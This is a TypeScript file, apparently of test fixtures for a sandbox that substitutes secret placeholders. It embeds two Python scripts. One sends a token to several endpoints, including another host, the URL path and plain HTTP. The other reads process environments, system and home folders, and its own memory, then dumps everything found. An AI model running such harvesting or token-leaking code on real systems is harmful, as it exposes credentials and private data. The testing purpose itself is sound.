// What a program does with the placeholder of a secret: sends it where it may be, and everywhere else.

/** Prints what came of each attempt. `GH_PAT` is for headers at example.org over TLS alone; `BODY_KEY` for bodies too. */
export const sendPlaceholders = `
import base64, json, os, ssl, urllib.request
held, body_key = os.environ["GH_PAT"], os.environ["BODY_KEY"]
answers = {}
def ask(name, url, headers={}, data=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=20) as answer:
            answers[name] = [answer.status, answer.read().decode("latin1")]
    except urllib.error.HTTPError as error:
        answers[name] = [error.code, error.read().decode("latin1")]
    except Exception as error:
        answers[name] = [None, f"{type(error).__name__}: {error}"]
def basic(user, password):
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()
home = "https://example.org"
ask("bearer", home + "/bearer", {"Authorization": "Bearer " + held})
ask("basic", home + "/basic", {"Authorization": basic("me", held)})
ask("echo", home + "/echo", {"Content-Type": "text/plain"}, ("say " + body_key).encode())
ask("plain", "http://example.org/plain", {"Authorization": "Bearer " + held})
ask("other", "https://other.example/other", {"Authorization": "Bearer " + held})
ask("path", home + "/path/" + held)
ask("query", home + "/query?key=" + held)
ask("body", home + "/body", {}, held.encode())
ask("forged", home + "/forged", {"Authorization": "Bearer " + held[:-1] + ("a" if held[-1] != "a" else "b")})
answers["held"] = [held, body_key]
answers["trust"] = {name: os.environ.get(name) for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "GIT_SSL_CAINFO")}
print(json.dumps(answers))
`;

/** Prints everything of its surroundings that it can read. */
export const searchSurroundings = `
import os
def read(path):
    try:
        with open(path, "rb") as file: return file.read(1 << 20)
    except OSError as error: return type(error).__name__.encode()
found = []
for number in [name for name in os.listdir("/proc") if name.isdigit()]:
    found += [read(f"/proc/{number}/{name}") for name in ("environ", "cmdline", "status")]
for top in ("/home/mcp", "/tmp", "/run", "/dev/shm", "/etc", "/opt"):
    for folder, _, names in os.walk(top):
        found += [read(os.path.join(folder, name)) for name in names]
with open("/proc/self/maps") as maps:
    for line in maps:
        start, end = (int(word, 16) for word in line.split()[0].split("-"))
        if " rw" in line and end - start < 1 << 26:
            with open("/proc/self/mem", "rb") as memory:
                try:
                    memory.seek(start)
                    found.append(memory.read(end - start))
                except (OSError, ValueError, OverflowError): pass
with open("found.bin", "wb") as file: file.write(b"\\n".join(found)[: 40 << 20])
print(len(found))
`;
